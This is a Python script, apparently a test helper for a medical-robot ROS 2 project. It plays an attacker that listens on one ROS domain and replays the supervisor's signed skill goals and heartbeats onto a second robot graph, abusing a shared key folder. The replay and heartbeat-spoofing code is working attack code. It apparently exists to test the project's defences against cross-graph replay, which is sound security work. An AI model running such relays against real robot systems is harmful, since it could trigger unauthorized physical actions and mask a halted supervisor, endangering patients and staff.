"""An attacker that joins two graphs on one machine: it listens on graph A's ROS domain and talks on graph B's.

It holds no key. It relies only on what two ``medrobot bringup`` graphs started by one user share by default:
the graph secret in ``~/.config/medrobot/keys`` (the tests give both graphs one keys folder to stand for it).
Any process may join any ROS_DOMAIN_ID, so what A's supervisor signs can be heard on A and said on B.

    cross_graph.py goals DOMAIN_A DOMAIN_B SECONDS SKILL[,SKILL...]
        a second, silent server on A's /medrobot/execute_skill reads each goal the supervisor sends (with its
        capability); a goal for one of the SKILLs is sent to B's skill server with the same goal id and fields.
        One JSON line per goal relayed: {"skill", "accepted", "success", "failure_kind", "message", "world"}.
    cross_graph.py beats DOMAIN_A DOMAIN_B SECONDS
        every /medrobot/heartbeat heard on A is published unchanged on B. One JSON line per change of B's robot
        status (halted, supervisor alive, supervisor instance): {"halted", "supervisor"}.

Both print {"ready": true} once their endpoints are up and end after SECONDS.
"""

from __future__ import annotations

import json
import os
import queue
import sys
import threading
import time
import uuid
from typing import Any

import rclpy
from rclpy.action import ActionClient, ActionServer, GoalResponse
from rclpy.callback_groups import ReentrantCallbackGroup
from rclpy.context import Context
from rclpy.executors import MultiThreadedExecutor
from rclpy.node import Node
from rclpy.qos import DurabilityPolicy, QoSProfile, ReliabilityPolicy

from medrobot_llm.backends.ros.common import ACTION_EXECUTE, TOPIC_HEARTBEAT, TOPIC_ROBOT_STATUS


def say(obj: dict[str, Any]) -> None:
    print(json.dumps(obj), flush=True)


def join(domain_id: int, name: str) -> tuple[Node, MultiThreadedExecutor]:
    ctx = Context()
    rclpy.init(context=ctx, domain_id=domain_id)
    node = rclpy.create_node(name, context=ctx)
    ex = MultiThreadedExecutor(num_threads=8, context=ctx)
    ex.add_node(node)
    threading.Thread(target=ex.spin, daemon=True).start()
    return node, ex


class SilentServer(ActionServer):  # type: ignore[misc]
    """A second server on the action: it reads every goal request and never answers anything, so the supervisor
    goes on with the real skill server's answers (its results and cancels are dropped here, not refused)."""

    async def _execute_get_result_request(self, request_header_and_request: Any) -> None:
        return None

    async def _execute_cancel_request(self, request_header_and_request: Any) -> None:
        return None


def relay_goals(a: int, b: int, seconds: float, skills: set[str]) -> None:
    from medrobot_interfaces.action import ExecuteSkill
    from unique_identifier_msgs.msg import UUID

    heard: queue.Queue[Any] = queue.Queue()

    def on_goal(goal: Any) -> GoalResponse:
        heard.put(goal)
        time.sleep(seconds + 5.0)  # the real skill server has long answered; this answer is never used
        return GoalResponse.REJECT

    node_a, _ = join(a, "rogue_listener")
    node_b, _ = join(b, "rogue_sender")
    SilentServer(node_a, ExecuteSkill, ACTION_EXECUTE, execute_callback=lambda _h: ExecuteSkill.Result(),
                 goal_callback=on_goal, callback_group=ReentrantCallbackGroup())
    client = ActionClient(node_b, ExecuteSkill, ACTION_EXECUTE)
    if not client.wait_for_server(timeout_sec=10.0):
        say({"error": "no skill server on graph B"})
        return
    say({"ready": True})
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        try:
            goal = heard.get(timeout=0.1)
        except queue.Empty:
            continue
        if goal.skill not in skills:
            continue
        goal_id = json.loads(goal.capability).get("goal_id", "")
        kwargs = {"goal_uuid": UUID(uuid=list(uuid.UUID(goal_id).bytes))} if goal_id else {}
        done = threading.Event()
        sent = client.send_goal_async(goal, **kwargs)
        sent.add_done_callback(lambda _f, ev=done: ev.set())
        handle = sent.result() if done.wait(5.0) else None
        if handle is None or not handle.accepted:
            say({"skill": goal.skill, "accepted": False})
            continue
        done.clear()
        res = handle.get_result_async()
        res.add_done_callback(lambda _f, ev=done: ev.set())
        result = res.result().result if done.wait(10.0) and res.result() is not None else None
        say({"skill": goal.skill, "accepted": True, "success": bool(result and result.success),
             "failure_kind": result.failure_kind if result else None, "message": result.message if result else None,
             "world": json.loads(result.world_json) if result and result.world_json else None})


def relay_beats(a: int, b: int, seconds: float) -> None:
    from medrobot_interfaces.msg import Heartbeat
    from std_msgs.msg import String

    qos = QoSProfile(depth=10, reliability=ReliabilityPolicy.RELIABLE, durability=DurabilityPolicy.VOLATILE)
    node_a, _ = join(a, "rogue_beat_listener")
    node_b, _ = join(b, "rogue_beat_sender")
    pub = node_b.create_publisher(Heartbeat, TOPIC_HEARTBEAT, qos)
    node_a.create_subscription(Heartbeat, TOPIC_HEARTBEAT, pub.publish, qos)
    last: list[Any] = [None]

    def on_status(msg: Any) -> None:
        status = json.loads(msg.data)
        now = (status["halted"], status["supervisor"].get("alive"), status["supervisor"].get("instance"))
        if now != last[0]:
            last[0] = now
            say({"halted": status["halted"], "supervisor": status["supervisor"]})

    node_b.create_subscription(String, TOPIC_ROBOT_STATUS, on_status, qos)
    say({"ready": True})
    time.sleep(seconds)


def main(argv: list[str]) -> None:
    mode, a, b, seconds = argv[0], int(argv[1]), int(argv[2]), float(argv[3])
    if mode == "goals":
        relay_goals(a, b, seconds, set(argv[4].split(",")))
    else:
        relay_beats(a, b, seconds)
    sys.stdout.flush()
    os._exit(0)  # the executors' threads would otherwise hold the process


if __name__ == "__main__":
    main(sys.argv[1:])
